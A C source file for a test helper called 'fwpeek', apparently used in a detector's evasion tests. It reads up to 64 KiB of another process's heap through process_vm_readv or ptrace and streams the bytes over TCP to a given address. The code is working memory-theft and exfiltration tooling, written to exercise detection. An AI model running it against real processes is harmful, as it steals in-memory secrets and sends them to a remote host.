// SPDX-License-Identifier: GPL-2.0
/*
 * fwpeek - read another process's memory and send it, for flightwatch's
 * end-to-end tests (evasion.sh): what a debugger-like exfiltrator does.
 *
 *   fwpeek vm|ptrace PID ADDR PORT
 *
 * Reads up to 64 KiB of PID's heap (its "[heap]" mapping in
 * /proc/PID/maps, else its first writable private mapping) with
 * process_vm_readv (vm) or PTRACE_ATTACH and PTRACE_PEEKDATA (ptrace),
 * then sends what it read over TCP to ADDR:PORT (IPv4) and prints
 * "peeked=N sent=N". Errors: one line on stderr, exit 1; usage: exit 2.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define PEEK_MAX 65536

static unsigned char buf[PEEK_MAX];

static void die(const char *what)
{
	fprintf(stderr, "fwpeek: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* The heap of pid, else its first writable private mapping */
static size_t region(pid_t pid, unsigned long *start)
{
	char path[64], line[512], perms[8];
	unsigned long lo, hi, first_lo = 0, first_hi = 0;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		die(path);
	while (fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 ||
		    perms[0] != 'r' || perms[1] != 'w' || perms[3] != 'p')
			continue;
		if (strstr(line, "[heap]")) {
			first_lo = lo;
			first_hi = hi;
			break;
		}
		if (!first_hi) {
			first_lo = lo;
			first_hi = hi;
		}
	}
	fclose(maps);
	if (!first_hi) {
		fprintf(stderr, "fwpeek: no writable mapping in %s\n", path);
		exit(1);
	}
	*start = first_lo;
	return first_hi - first_lo < PEEK_MAX ? first_hi - first_lo : PEEK_MAX;
}

static size_t peek_vm(pid_t pid)
{
	unsigned long start;
	size_t len = region(pid, &start);
	struct iovec local = { buf, len }, remote = { (void *)start, len };
	ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);

	if (n < 0)
		die("process_vm_readv");
	return n;
}

static size_t peek_ptrace(pid_t pid)
{
	unsigned long start;
	size_t len = region(pid, &start), n;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
		die("PTRACE_ATTACH");
	if (waitpid(pid, NULL, __WALL) < 0)
		die("waitpid");
	for (n = 0; n + sizeof(long) <= len; n += sizeof(long)) {
		long word;

		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, pid, (void *)(start + n), NULL);
		if (errno)
			die("PTRACE_PEEKDATA");
		memcpy(buf + n, &word, sizeof(word));
	}
	if (ptrace(PTRACE_DETACH, pid, NULL, NULL))
		die("PTRACE_DETACH");
	return n;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	size_t got, sent = 0;
	pid_t pid;
	int fd;

	if (argc != 5 || (strcmp(argv[1], "vm") && strcmp(argv[1], "ptrace"))) {
		fprintf(stderr, "usage: fwpeek vm|ptrace PID ADDR PORT\n");
		return 2;
	}
	pid = atoi(argv[2]);
	sa.sin_port = htons(atoi(argv[4]));
	if (inet_pton(AF_INET, argv[3], &sa.sin_addr) != 1) {
		fprintf(stderr, "fwpeek: bad address %s\n", argv[3]);
		return 2;
	}
	got = !strcmp(argv[1], "vm") ? peek_vm(pid) : peek_ptrace(pid);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)))
		die("connect");
	while (sent < got) {
		ssize_t n = write(fd, buf + sent, got - sent);

		if (n <= 0)
			die("write");
		sent += n;
	}
	shutdown(fd, SHUT_WR);
	while (read(fd, buf, sizeof(buf)) > 0)
		;
	close(fd);
	printf("peeked=%zu sent=%zu\n", got, sent);
	return 0;
}
